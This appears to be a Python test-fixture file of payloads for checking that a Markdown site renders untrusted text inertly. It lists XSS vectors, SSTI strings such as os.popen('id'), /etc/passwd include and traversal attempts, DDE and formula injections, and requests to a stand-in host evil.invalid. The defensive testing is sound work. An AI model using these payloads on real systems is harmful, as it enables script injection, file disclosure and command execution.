"""Texts that would do something if any stop on the road took them for more than text.

Grouped by what they are aimed at. Every one must arrive in front of the reader as the letters it
is made of.
"""

from __future__ import annotations

RUN = "alert(1)"
"""What a script here would do; the browser is watched for it."""
AWAY = "https://evil.invalid"
"""A host that does not exist; the browser is watched for requests to it."""
IMG = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"

LINKS = (
    *(
        f"[c]({address})"
        for address in (
            f"javascript:{RUN}",
            f"JaVaScRiPt:{RUN}",
            f"java&#x73;cript:{RUN}",
            f"java&Tab;script:{RUN}",
            f"java&NewLine;script:{RUN}",
            "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
            "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
            f"<java\tscript:{RUN}>",
            f" javascript:{RUN}",
            f"javascript&colon;{RUN}",
            f"javascript&#58;{RUN}",
            "vbscript:msgbox(1)",
            f"data:text/html,{SCRIPT}",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            f"javascript://example.com/%0a{RUN}",
            f'x "t\\" onmouseover=\\"{RUN}"',
            f"x 't\" onmouseover=\"{RUN}'",
            "//evil.invalid/x",
            "/\\evil.invalid/x",
        )
    ),
    f"[c][r]  [r]: javascript:{RUN}",
    f"[c]\n\n[c]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<data:text/html,{SCRIPT}>",
)
"""Links of Markdown that lead into a script or out of the site unseen."""

ATTRIBUTES = (
    f'![x](x"onerror="{RUN})',
    f'![x](x){{: onerror="{RUN}" }}',
    f"![x](x){{ onerror={RUN} }}",
    f'para {{: onclick="{RUN}" }}',
    f'para {{: onmouseover={RUN} style="position:fixed;top:0;left:0;width:100%;height:100%" }}',
    f"# head {{: onclick={RUN} id=x }}",
    f'[l](x){{: href="javascript:{RUN}" }}',
    f'[l](#){{: onclick="{RUN}" }}',
    f"**b**{{ onclick={RUN} }}",
    f"`code`{{ onclick={RUN} }}",
    f"`#!python x`{{ onclick={RUN} }}",
    f"| a |\n|---|\n| b {{: onclick={RUN} }} |",
    f"- item\n{{: onclick={RUN} }}",
    f":smile:{{ onclick={RUN} }}",
    f'``` {{ .python onclick="{RUN}" }}\nx\n```',
)
"""Lists of attributes, an extension of Python-Markdown that sites often switch on."""

EXTENSIONS = (
    f'*[HTML]: ">{SCRIPT}\n\nHTML',
    f"[^1]\n\n[^1]: {SCRIPT}",
    f'!!! note "{SCRIPT}"\n    x',
    f'!!! note" onclick="{RUN} "x"\n    x',
    f'??? note "{IMG}"\n    x',
    f'=== "{IMG}"\n    x',
    f'``` python title="{IMG}"\nx\n```',
    f'``` python hl_lines="1" linenums="1" title="" onclick="{RUN}"\nx\n```',
    f'``` mermaid\ngraph TD\n A["{IMG}"]-->B\n click A "javascript:{RUN}"\n```',
    f"``` mermaid\n</pre>{SCRIPT}\n```",
    f"``` math\n\\href{{javascript:{RUN}}}{{x}}\n```",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$${SCRIPT}$$",
    f':material-">{SCRIPT}:',
    f'++"{SCRIPT}"++',
    f'++ctrl+"{IMG}"++',
    f"{{=={SCRIPT}==}}{{>>{IMG}<<}}",
    f"{{++{IMG}++}}",
    f'<div markdown="1">\n{SCRIPT}\n</div>',
    f'<div markdown onclick="{RUN}">x</div>',
    f'<p markdown="span"><a href="javascript:{RUN}">x</a></p>',
)
"""Admonitions, tabs, footnotes, diagrams, formulas, icons: what other extensions would act on."""

INCLUDES = (
    '--8<-- "/etc/passwd"',
    '--8<-- "../../../../etc/passwd"',
    '--8<-- "mkdocs.yml"',
    '-8<- "mkdocs.yml"',
    ';--8<-- "mkdocs.yml"',
    "--8<--\nmkdocs.yml\n--8<--",
    '{% include "mkdocs.yml" %}',
    "[[include:/etc/passwd]]",
)
"""Texts that ask for another file to be read."""

BREAKING_OUT = (
    f"<!-- -->{SCRIPT}<!-- -->",
    f"<!-->{SCRIPT}-->",
    f"<!--->\n{IMG}",
    "<!-- unclosed",
    "<![>",
    '<![><img src="]>',
    "<![if x]>",
    f"<![CDATA[{SCRIPT}]]>",
    f"<?php ?>{IMG}",
    f'<!DOCTYPE x [<!ENTITY e "{SCRIPT}">]>&e;',
    f"</p></article></main>{SCRIPT}",
    f"</title>{SCRIPT}",
    f"</textarea></style></script>{SCRIPT}",
    f"</text></svg>{SCRIPT}",
    f"</td></tr></table>{IMG}",
    f"x\"'>{IMG}",
    f'" onfocus="{RUN}" autofocus tabindex="1',
    f"' onmouseover='{RUN}",
    f"amp;lt;script>{RUN}",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "JACSLOT000000Q",
    "wzxhzdk:0",
)
"""Comments, ends of elements and entities: ways out of where the text stands."""

ELEMENTS = (
    SCRIPT,
    IMG,
    f'<SCRIPT a=`>` SRC="data:text/javascript,{RUN}"></SCRIPT>',
    f"<img a=`>` src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg a=`>` onload={RUN}>",
    f"<svg><foreignObject><body>{IMG}</body></foreignObject></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=10 y=20>c</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /></a></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    f'<math><mi//xlink:href="data:x,{SCRIPT}">',
    f"<form><button formaction=javascript:{RUN}>c</button></form>",
    f'<form action="javascript:{RUN}"><input type=submit></form>',
    f'<form id=x></form><button form=x formaction="javascript:{RUN}">c</button>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<base href="{AWAY}/">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url={AWAY}/">',
    f'<link rel=stylesheet href="{AWAY}/x.css">',
    f'<link rel=preload as=script href="{AWAY}/x.js">',
    f"<style>@import url({AWAY}/x.css);</style>",
    f"<style>body{{background:url({AWAY}/b.png)}}</style>",
    f'<div style="background:url({AWAY}/b.png)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">overlay</div>',
    '<p class="md-overlay" id="__config">clobber</p>',
    f'<script id="__config" type="application/json">{{"base":"{AWAY}","features":[]}}</script>',
    '<img id="__config"><form name=body></form><img name=getElementById>',
    f'<img src="{AWAY}/track.png">',
    f"![t]({AWAY}/track.png)",
    "![t](//evil.invalid/track.png)",
    f'<video poster="{AWAY}/p.png" src="{AWAY}/v.mp4" autoplay onloadstart={RUN}></video>',
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<details markdown open ontoggle={RUN}><summary>s</summary>x</details>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<body onload={RUN}>",
    f'<a href="javascript:{RUN}" target=_blank>c</a>',
    f'<a href="{AWAY}" target=_blank>opener</a>',
    f"<a id=x tabindex=1 onfocus={RUN}></a>",
    f"<x onclick={RUN}>c</x>",
    f"<template>{SCRIPT}</template>",
    f'<noscript><p title="</noscript>{IMG}">',
    f"<dialog open onclose={RUN}><form method=dialog><button>c</button></form></dialog>",
    f"<button popovertarget=x>p</button><div id=x popover onbeforetoggle={RUN}>x</div>",
    f"<style>@keyframes a{{}}</style><x style='animation-name:a' onanimationstart={RUN}></x>",
    f'<p title="x" onmouseenter="{RUN}">c</p>',
)
"""Elements that run, load, lead away, cover the page or take the place of the theme's own."""

TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ 'a'*10**9 }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import os %}",
    "{% raw %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% endraw %}{{ 7*7 }}",
    "{%- set x = 1 -%}",
    "{# x",
    "{# comment #}",
    "#}{{ 7*7 }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{#with}}",
    "[[${7*7}]]",
    "%(x)s %s %n %d",
    "{0.__class__} {x} {}",
    "{kind} {id} {name}",
    "$name ${HOME} `id` $(id)",
)
"""Expressions of template languages, Python's own formatting among them."""

LABELS = (
    'a" b',
    "ends with \\",
    '\\" ; evil [label=x',
    "\\N \\G \\E \\T \\H \\L",
    "a\\lb\\rc\\n",
    "<b>x</b>",
    "<<table><tr><td>x</td></tr></table>>",
    '<<table><tr><td><img src="/etc/passwd"/></td></tr></table>>',
    f'<<table href="javascript:{RUN}"><tr><td>x</td></tr></table>>',
    "<<table>",
    "<",
    "<>",
    "&lt;script&gt; &#60; &nosuch;",
    f'x", URL="javascript:{RUN}',
    'x", image="/etc/passwd',
    'x", shape=custom, shapefile="/etc/passwd',
    'x"]; b [label="y',
    "a\nb\n\nc",
    "a:b:c",
    "strict digraph subgraph node edge graph",
    "/* x",
    "// x",
    '# line 1 "x"',
    "--> <!-- ]]>",
    f"]]>{SCRIPT}",
    "𝕏 😀 👩‍👩‍👧‍👦",
    "שלום عقد",
    "%s %n %d",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
    "kolmivaihekilowattituntimittarikotelonkansiruuvinkierteensuojahattu",
)
"""Signs that mean something to Graphviz, in its labels, its language or the SVG it writes."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    f'=HYPERLINK("{AWAY}/?x="&A1,"click")',
    f'=WEBSERVICE("{AWAY}/")',
    f'=IMPORTXML("{AWAY}","//a")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff201",
    "\u2212 1 is no formula",
    '";=1+1;"',
    'a";\n=1+1',
    "|cmd",
    "%0A=1+1",
    "'=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "-5 points of NPS",
    "- a dash, then words",
    "+358 40 1234567",
)
"""Texts that a spreadsheet would compute, should they ever reach one."""

SCRIPTS = LINKS + ATTRIBUTES + EXTENSIONS + INCLUDES + BREAKING_OUT + ELEMENTS
"""Everything aimed at the page a text is shown on."""

REFUSED = frozenset(
    {
        *(
            f"[c]({address})"
            for address in (
                f"javascript:{RUN}",
                f"JaVaScRiPt:{RUN}",
                f"java&#x73;cript:{RUN}",
                "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
                f" javascript:{RUN}",
                f"javascript&colon;{RUN}",
                f"javascript&#58;{RUN}",
                "vbscript:msgbox(1)",
                f"data:text/html,{SCRIPT}",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                f"javascript://example.com/%0a{RUN}",
                "//evil.invalid/x",
                "/\\evil.invalid/x",
            )
        ),
        f"[c]\n\n[c]: javascript:{RUN}",
        f"<javascript:{RUN}>",
        f'![x](x"onerror="{RUN})',
        f'![x](x){{: onerror="{RUN}" }}',
        f"![x](x){{ onerror={RUN} }}",
        f'[l](#){{: onclick="{RUN}" }}',
        f"![t]({AWAY}/track.png)",
        "![t](//evil.invalid/track.png)",
    }
)
"""Links and pictures of Markdown that lead nowhere a page could go: an error, and letters."""

INERT = {"xss": SCRIPTS, "ssti": TEMPLATES, "dot": LABELS, "formula": FORMULAS}
"""All payloads by class of row."""

BLOW_UPS = {
    name: (text * 4000)[:4000]
    for name, text in {
        "brackets": "[",
        "links": "[](",
        "pictures": "![",
        "stars": "*a ",
        "run of stars": "*",
        "underscores": "_a_",
        "stars and underscores": "*_",
        "angles": "<",
        "elements": "<a ",
        "comments": "<!--",
        "sections of data": "<![CDATA[",
        "quotes": "> ",
        "spaces": "a" + " " * 3998,
        "lines": "a\n\n",
        "tables": "|a",
        "rows of tables": "|a|b|\n|-|-|\n",
        "footnotes": "[^1]",
        "references": "[a]: x\n",
        "ampersands": "&",
        "mail addresses": "a@",
        "addresses": "http://",
        "headings": "#",
        "underlined": "a\n===\n",
        "icons": ":a",
        "keys": "++",
        "formulas": "$",
        "attributes": "{: ",
        "includes": "--8<-- ",
        "round brackets": "(",
        "abbreviations": "*[",
        "backslashes": "\\",
        "ticks": "`",
        "growing ticks": "".join("`" * n + " " for n in range(1, 90)),
        "lists in lists": "".join("  " * n + "- a\n" for n in range(60)),
        "quotes in lists": "> - ",
        "long word": "w",
        "soft hyphens": "sana\u00ad",
    }.items()
}
"""Texts as long as prose may be, on which parsers of Markdown have been seen to hang."""


def on_one_line(text: str) -> str:
    """Give a text as it stands where no line break may."""
    return " ".join(text.split("\n"))
